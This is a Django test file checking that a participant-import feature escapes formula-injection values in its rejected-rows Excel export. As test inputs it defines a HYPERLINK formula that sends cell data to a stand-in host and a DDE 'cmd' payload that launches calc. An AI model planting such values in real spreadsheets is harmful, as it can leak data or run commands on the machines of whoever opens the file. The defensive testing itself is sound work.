"""The import's rejected-rows workbook is safe to open: hostile cells come back as text, never as formulas."""

from __future__ import annotations

import csv
import datetime
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from participants.models import ImportBatch
from tests.factories import make_nik

NAME, HAMLET, TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "@SUM(1)", "+cmd|' /C calc'!A0"


def test_rejected_rows_hold_no_formula(client, official):
    header = ["NIK", "Nama", "Jenis Kelamin", "Tanggal Lahir", "Pekerjaan", "Penghasilan", "Sumber Dana", "Jorong"]
    header.append("Tanggal Daftar")
    nik = [make_nik(birth_date=datetime.date(1985, 3, 14), sex="L", serial=serial) for serial in (1, 2)]
    rows = [
        header,
        [nik[0], NAME, "X", "14/03/1985", "Petani", "1.500.000", "Mandiri", HAMLET, "02/01/2025"],
        [nik[1], "@SUM(1)", "L", "14/03/1985", "Petani", "-2+3", "Mandiri", TITLE, "02/01/2025"],
    ]
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows(rows)
    client.force_login(official)
    upload = SimpleUploadedFile("daftar.csv", text.getvalue().encode("utf-8"), content_type="text/csv")
    posted = client.post(reverse("participants:import"), {"file": upload})
    assert posted.status_code == 302, posted.context["form"].errors
    batch = ImportBatch.objects.get()
    response = client.get(reverse("participants:import_rejected", args=[batch.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    rejected = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[2] for row in rejected] == ["'" + NAME, "'@SUM(1)"]
    assert [row[8] for row in rejected] == ["'" + HAMLET, "'" + TITLE]
    assert rejected[1][6] == "'-2+3"
